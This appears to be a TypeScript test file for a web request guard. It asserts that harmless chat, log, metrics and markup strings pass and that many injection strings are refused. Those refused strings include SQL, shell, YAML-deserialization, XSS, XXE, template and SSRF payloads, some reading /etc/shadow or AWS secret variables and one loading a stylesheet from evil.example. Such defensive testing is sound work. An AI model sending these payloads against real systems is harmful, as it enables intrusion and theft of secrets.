// Whole harmless requests through the guard as it ships: how many of a kind are refused is asserted, not only that few are.

import { describe, expect, test } from 'vitest'

import { browsers } from '../corpora/browsers.ts'
import { payloadGuard } from '../corpora/guard.ts'
import type { Half } from '../corpora/harmless.ts'
import { services } from '../corpora/services.ts'
import { placed, requests } from '../corpora/traffic.ts'
import type { Request } from '../corpora/traffic.ts'
import { people } from '../corpora/writing.ts'

const judge = payloadGuard()

/** A prompt, an answer or a package's description, as a body has it. */
const said = (content: string): Request => ({
  method: 'POST',
  target: '/v1/chat/completions',
  headers: [['content-type', 'application/json']],
  body: JSON.stringify({ model: 'm-1', messages: [{ role: 'user', content }] }),
})

const isRefused = (request: Request): boolean => {
  const { exchange } = placed(request)
  return exchange === undefined || judge(exchange).kind === 'deny'
}

describe.each([...browsers, ...people, ...services])('$name', (kind) => {
  test.each<Half>(['tuned', 'unseen'])('the %s half passes', (which) => {
    const all = requests(kind, 400, 22, which)
    expect(all.length).toBeGreaterThan(150)
    const refused = all.filter(isRefused)
    expect(refused.length, JSON.stringify(refused.slice(0, 3))).toBeLessThanOrEqual(
      all.length * (kind.share ?? 0),
    )
  })
})

describe('what is said to models, and by them', () => {
  test.each([
    ['words in quotes behind a contraction', `Let's log in. My name is 'Ines' and the code is 'k7-Winter'`],
    ['letters in quotes', `a word with the letters 'k' and 'o' is "book".`],
    ['two choices in quotes', `I'd pick "round" or "square" = whatever fits`],
    ['a comparison behind a genitive', "The child's question: the sum of 3 and 3 is 6."],
    [
      'years behind a genitive and a quoted word',
      `Saturn's "crown": probes 11 and 12 in 1979, and it's the last.`,
    ],
    ['years behind a contraction', "They've sent probes 11 and 12 in 1978, and more later."],
    ['a call that prints words', 'print("The mean of", a, "and", b, "is", mean)'],
    ['an operator in quotes at a sentence’s end', "Commands may be joined by '&&'."],
    ['a dash behind a choice in quotes', `I've read of "the new plan" or "The Last Plan" -- which is it?`],
    ['the end of what is bold, as a stream sends it', ')**'],
    ['a symbol of JavaScript', '@@asyncIterator'],
    ['a function of a package in YAML', 'slugify: !!python/name:acme.text.slugs.slugify'],
    ['a tag of YAML that is only named', 'the loader is needed for !!js/function'],
    [
      'a call in a span of code',
      'Read it whole first (`open("list.csv", "rb").read()`, which also works for bytes).',
    ],
    ['a query that takes pieces out of names', 'T | extend n = extract("^([a-z]+)-", 1, host) | count'],
    [
      'the data of a mail',
      '<p>Hi</p><script type="application/ld+json">{"@type":"EmailMessage","name":"x"}</script>',
    ],
    ['patterns of a log', '%{STAMP:event.time} %{WORD:process.name}: %{NUMBER:process.pid:int}'],
  ])('%s passes', (_, text) => {
    expect(isRefused(said(text))).toBe(false)
  })

  test.each([
    ['behind a contraction and a quote', "let's go' or 'a'='a' -- "],
    ['behind a name with an apostrophe', "O'Brien' or 'a'='a"],
    ['in the other quotes', `don't mind" or "a"="a`],
    ['in a clause behind a quote', "x' where 'a'='a' -- "],
    ['in the clause of a table', "users u where 'a'='a' or 'b'='b'"],
    ['behind a name and a quoted word', `O'Brien "x" or 1=1 -- `],
    ['behind a quoted word', `say "it's" ' or 1=1 -- `],
    ['a suffix that two words make', "x'member of('[\"x\"]') or 1=1 -- "],
    ['a bracket that closes a filter', '*)(&'],
    ['a variable of the server’s', '@@hostname'],
    [
      'a function that YAML is asked for',
      'a: !!python/name:acme.text.slugs.slugify\nb: !!python/name:os.system',
    ],
    [
      'a program behind a tag that is only named',
      "of !!js/function -- !!js/function 'function(){return 1}()'",
    ],
  ])('an attack %s is refused', (_, text) => {
    expect(isRefused(said(text))).toBe(true)
  })
})

/** One value, as a body, a query and a form have it. */
const placedIn = (value: string): readonly Request[] => [
  {
    method: 'POST',
    target: '/v1/items',
    headers: [['content-type', 'application/json']],
    body: JSON.stringify({ a: value }),
  },
  { method: 'GET', target: `/v1/items?a=${encodeURIComponent(value)}`, headers: [] },
  {
    method: 'POST',
    target: '/v1/items',
    headers: [['content-type', 'application/x-www-form-urlencoded']],
    body: `a=${encodeURIComponent(value)}`,
  },
]

describe('what clients, alerts, advertisers and clinics send', () => {
  test.each([
    ['a client’s comment with a command’s name', 'Photos/10.2 (Phone10,4; OS 11.1; gzip)'],
    [
      'a browser’s comment with an old editor’s name',
      'Mozilla/5.0 (X11; Linux; PICO 4 OS5 like Q) AppleWebKit/537',
    ],
    ['a comment without a blank before it', 'NativeMini(Haier;Native Mini/4.2;id;BREW 3.1)'],
    ['a value’s format', 'is above 80% (now: {{ $value | printf "%.2f" }}%)'],
    ['a value’s format in a text of JSON', '{"d":"above ({{ $value | printf \\"%.1f\\" }}%)"}'],
    [
      'a variable of GraphQL’s that is called as an operator is',
      'query a($id: ID!, $where: [OrderWhere!], $size: Int) { b(id: $id) { c } }',
    ],
    ['names of a line of a log', '{a="b"} | json | line_format "{{.__error__}} {{ __line__ | count "x" }}"'],
    ['a label of a log', '{app="a", __tenant_id__=~"a.+"} | logfmt'],
    ['what a share may do', 'Read-Write Group345'],
    [
      'a query of several statements',
      'let a = Logs\n| where c == 1;\nlet d=Signins\n| join kind=inner a on name\n| summarize count() by name',
    ],
    [
      'a page in a value',
      '<html><head><meta content="text/html; charset=utf-8"><title>Hello</title></head><body>x</body></html>',
    ],
    ['a case by its number', 'Edge-case 5'],
    ['two cases by their numbers', 'Use-Case 12 and 13'],
    ['a link that does nothing', '<a href="javascript:void(null);">x</a>'],
    ['a handler that does nothing', '<a href="#" onclick="return false;">x</a>'],
    ['slides', '<iframe src="//www.slideshare.net/slideshow/embed_code/key/D" width="5"></iframe>'],
    [
      'a line of metrics that names where it was read',
      'cpu,host=a,url=http://localhost:8086/vars idle=99i,busy=1i 1463590500247354636',
    ],
    ['a line of a log that names what was asked', 'level=info url=http://127.0.0.1:9090/api status=200'],
    [
      'a document’s own style sheet',
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CDA.xsl"?><a/>',
    ],
    [
      'an address in an attribute that begins as handlers do',
      '<a><Get onlineResource="http://a.example/x?"/></a>',
    ],
  ])('%s passes', (_, value) => {
    expect(placedIn(value).map(isRefused)).toEqual([false, false, false])
  })

  test.each([
    ['in brackets of their own', '(a; id)'],
    ['in brackets behind a separator', 'x; (a; id)'],
    ['in brackets that a quote hides', "a (b'; id; '"],
    ['in brackets that a quote hid', "a' (b; id"],
    ['in brackets behind a keyword', 'time x (b; id)'],
    ['in brackets of a process with a name', 'coproc a (b; id)'],
    ['in brackets behind a line that goes on', 'coproc \\\na (b; id)'],
    ['in a substitution', 'a $(b; id)'],
    ['in a pattern', 'a @(b; id)'],
    ['behind brackets', 'a (b); id'],
    ['on the line behind the bracket', 'a (b\n; id)'],
    ['in brackets, piped', 'a (b; c | id)'],
    ['that reads secrets, in brackets', 'a (b; cat /etc/shadow)'],
    ['behind a format', 'a {{ b | printf "%s" }}; id'],
    ['that a format is piped to', '{{ b | printf "%s" | sh }}'],
    ['behind what looks declared', '{a: {query($a: B}, $ne: Foo}'],
    ['in what looks declared', 'query($a: B, $where: function(){return 1})'],
    ['as an operator with a name', '{$ne: Foo}'],
    ['as a name made of a log’s', "{{ x['__line__'|replace('line','class')] }}"],
    ['as a class compared', '{x.__class__="a"}'],
    ['as a comment', '2---'],
    ['as a comment that reads as a choice', '1---'],
    ['as a foreign style sheet', '<?xml-stylesheet type="text/xsl" href="//evil.example/a.xsl"?><a/>'],
    ['as a style sheet of its own', '<?xml-stylesheet type="text/xsl" href="#a"?><a/>'],
    ['as a style sheet from where it came', '<?xml-stylesheet type="text/xsl" href=""?><a/>'],
    [
      'as a second address of a style sheet',
      '<?xml-stylesheet href="a.xsl" href="data:text/xml,b" type="text/xsl"?><a/>',
    ],
    ['as a parameter beside others', 'https://a.example/?b=1&url=http://127.0.0.1:8086/x c=1'],
    ['as a parameter by itself', 'url=http://localhost:8086/x'],
    ['for the cloud’s own service, in a line of metrics', 'cpu,url=http://169.254.169.254/latest a=1'],
    ['with a case of its own', 'id-case when 1=1 then 1 else sleep(5) end'],
    ['behind what does nothing', '<a href="javascript:void(null);alert(1)">x</a>'],
    ['behind an answer', '<a href="#" onclick="return false,alert(1)">x</a>'],
    ['in a frame', '<iframe src="//evil.example/slideshow/embed_code/key/D"></iframe>'],
    ['behind an address, on a line of its own', '<a onclick="http://x&#10;alert(1)"/>'],
  ])('an attack %s is refused', (_, value) => {
    expect(placedIn(value).map(isRefused)).toEqual([true, true, true])
  })
})

test('what a visitor has not chosen passes by its name, wherever it stands', () => {
  const headers: Request['headers'] = [['content-type', 'application/json']]
  const body = JSON.stringify({ regs: { ext: { us_privacy: '1---' } } })
  expect(isRefused({ method: 'POST', target: '/bid', headers, body })).toBe(false)
  expect(isRefused({ method: 'GET', target: '/sync?us_privacy=1---', headers: [] })).toBe(false)
  expect(isRefused({ method: 'GET', target: '/', headers: [['cookie', 'usprivacy=1---']] })).toBe(false)
})

describe('what shops, messengers, monitors and searches send', () => {
  test.each([
    ['a title and a heading in quotes', 'Salads & More "best of"'],
    ['a title with times', 'Date & Time 24/7'],
    ['a title set apart by a bar', 'Kitchen Tools | Sort @ Home'],
    ['a title with a bracket', 'Beauty & Watch (2 pack)'],
    [
      'a link with a name of several words',
      'see <https://a.example.com/x|PR Strategy 2019> posted in <#C12|news>',
    ],
    ['a link by its host', '*<link.example.com|PR Strategy 2019> is due*'],
    ['a pattern of schemes', '^(http|https|ftp)$'],
    ['a pattern of programs', 'x\\.(?:tar|zip|sh)$'],
    ['a pattern in quotes', 'r"(payments|ftp)"'],
    ['a query that sorts', 'fields @timestamp, @message | sort @timestamp desc | limit 20'],
    ['a query that reckons', 'FROM logs-* | EVAL ms = ROUND(event.duration / 1000.0, 1) | SORT ms DESC'],
    ['a query from a source', 'source=logs | eval x = round(a / 2, 1)'],
    ['an alert as an object', 'has(alert.tags.env)'],
    ['an alert as an object in a message', '{{ text.strip(alert.some_attribute) }}'],
    ['an alert’s address', 'alert.callback_url'],
    ['a legend', '{{__name__}}'],
    ['a legend of two labels', '{{ __name__ }} - {{instance}}'],
    ['a GUID in braces', '{00000000-0001-0000-0000-000000000000}'],
    [
      'an entity that is a blank',
      `<!DOCTYPE html [<!ENTITY nbsp '&#160;'><!ENTITY trade "&#x2122;">]><a>x</a>`,
    ],
    ['a folder of an editor’s', '${env:HOME}'],
    ['where a mail came from', 'from mail-a.example.com (HELO x) [192.0.2.7] by mx.example.com with ESMTPS'],
  ])('%s passes', (_, value) => {
    expect(placedIn(value).map(isRefused)).toEqual([false, false, false])
  })

  test.each([
    ['behind a title, of a file', 'Home & Type C:\\boot.ini'],
    ['behind a title, of a file beside', 'Home & More web.config'],
    ['behind a title, of all files', 'Home & Del *'],
    ['behind a title, with an option', 'Home & Python -c "import os"'],
    ['behind a title, of a variable', 'Home & Echo %Path%'],
    ['behind a title, that waits', 'Home & Sleep 5'],
    ['behind a title, that is started', 'Home & Start Calc'],
    ['behind a title, that another runs', 'Home & Time Whoami'],
    ['behind a title, in small letters', 'Home & whoami'],
    ['in a link', '<https://a.example|cat /etc/passwd>'],
    ['in a link, alone', '<a.example|whoami>'],
    ['in a link to a host', '<a.example|touch x>'],
    ['in a link to a file', ';<config.php|cat>c'],
    ['in a link to a file, that sends', '<users.db|mail evil>c'],
    ['in a bracket behind a dot', ';.(ls|iex)'],
    ['in a bracket behind a dot of its own', 'x;.(cat|sh)'],
    ['in a glued bracket, that asks Windows', 'X(a|whoami)'],
    ['in a glued bracket, that stops it', 'X(a|reboot)'],
    ['in a bracket of its own', '(a|sh)'],
    ['in a bracket that is substituted', '$(a|sh)'],
    ['in a bracket behind a blank', 'X (a|sh)'],
    ['in a bracket behind a keyword', 'time(a|sh)'],
    ['in a glued bracket, with an argument', 'X(a|cat /etc/passwd)'],
    ['at the end of a query', 'fields a | sort b | sh'],
    ['in a query, of a file', 'FROM logs | sort /etc/passwd'],
    ['in a query, that writes', 'FROM logs | sort a -o /tmp/x'],
    ['in a query’s reckoning', 'FROM logs | eval x = $(id)'],
    ['handed on', 'map(alert.bind(null,1))'],
    ['by a function’s maker', "map(alert.constructor('x')())"],
    ['spelt otherwise', 'map(alert.c\\u0061ll(1))'],
    ['behind a legend', '{{__name__.__class__}}'],
    ['as a difference', '{70-7}'],
    ['as a difference of many', '{00000000-0001-0000-0000-00000000000}'],
    ['by an entity of ASCII', `<!DOCTYPE a [<!ENTITY x '&#60;'>]><a>x</a>`],
    ['by an entity that is taken for ASCII', `<!DOCTYPE a [<!ENTITY x '&#171;'>]><a>x</a>`],
    ['by an entity that is a blank', `<!DOCTYPE a [<!ENTITY x ' '>]><a>x</a>`],
    ['by an entity of two', `<!DOCTYPE a [<!ENTITY x '&#160;&y;'>]><a>x</a>`],
    ['by a parameter entity', `<!DOCTYPE a [<!ENTITY % x '&#160;'>]><a>x</a>`],
    ['of a secret', '${env:SECRET}'],
    ['of what a process was started with', '${env:AWS_SECRET_ACCESS_KEY}'],
  ])('an attack %s is refused', (_, value) => {
    expect(placedIn(value).map(isRefused)).toEqual([true, true, true])
  })
})
